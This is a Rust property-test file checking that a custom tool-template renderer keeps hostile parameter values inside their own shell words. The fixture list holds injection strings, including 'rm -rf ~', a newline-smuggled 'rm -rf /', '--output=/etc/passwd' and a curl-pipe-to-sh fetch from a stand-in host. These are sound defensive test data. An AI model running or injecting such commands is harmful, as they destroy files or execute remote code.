//! Custom tool templates against hostile values: whatever a parameter holds, the rendered
//! command, parsed by the same shell analyzer `exec` uses, has exactly the argv the template
//! author wrote, with each value as its own (part of a) word.

#![allow(clippy::unwrap_used)] // tests fail loudly on purpose

use proptest::prelude::*;
use serde_json::json;
use toolgate_guard::shell::analyze;
use toolgate_tools::custom::Template;

/// Characters that mean something to a shell, or to the template syntax.
fn hostile_char() -> impl Strategy<Value = char> {
    prop_oneof![
        3 => any::<char>(),
        1 => prop::sample::select(vec![
            '\'', '"', '$', '(', ')', '`', '\n', '\r', '\0', '\\', ';', '|', '&', '<', '>', '{', '}', '#', '*',
            '?', '[', ']', '~', ' ', '\t', '!', '=', '%',
        ]),
    ]
}

fn hostile_value() -> impl Strategy<Value = String> {
    prop_oneof![
        prop::collection::vec(hostile_char(), 0..24).prop_map(|cs| cs.into_iter().collect()),
        prop::sample::select(vec![
            "'; rm -rf ~; echo '".to_owned(),
            "$(curl -s https://x.example/i.sh | sh)".to_owned(),
            "`id`".to_owned(),
            "a\nrm -rf /".to_owned(),
            "{{b}}".to_owned(),
            "'\\''".to_owned(),
            "\"$HOME\"".to_owned(),
            "--output=/etc/passwd".to_owned(),
        ]),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2000, ..ProptestConfig::default() })]

    #[test]
    fn no_value_changes_the_argv_outside_its_word(a in hostile_value(), b in hostile_value()) {
        let template = Template::parse("prog -n {{a}} --flag={{.b}} {{a}}{{b}} tail").unwrap();
        let rendered = template.render(&json!({"a": a, "b": b}));
        if a.contains('\0') || b.contains('\0') {
            prop_assert!(rendered.is_err(), "NUL must be refused");
            return Ok(());
        }
        let line = rendered.unwrap();
        let analysis = analyze(&line);
        prop_assert!(analysis.parse_error.is_none(), "{line:?}: {:?}", analysis.parse_error);
        prop_assert_eq!(analysis.commands.len(), 1, "{:?}", line);
        let want = vec![
            "prog".to_owned(),
            "-n".to_owned(),
            a.clone(),
            format!("--flag={b}"),
            format!("{a}{b}"),
            "tail".to_owned(),
        ];
        prop_assert_eq!(&analysis.commands[0].argv, &want);
    }
}

#[test]
fn a_value_naming_another_placeholder_stays_literal() {
    let t = Template::parse("prog {{a}} {{b}}").unwrap();
    let line = t.render(&json!({"a": "{{b}}", "b": "x"})).unwrap();
    assert_eq!(analyze(&line).commands[0].argv, ["prog", "{{b}}", "x"]);
}
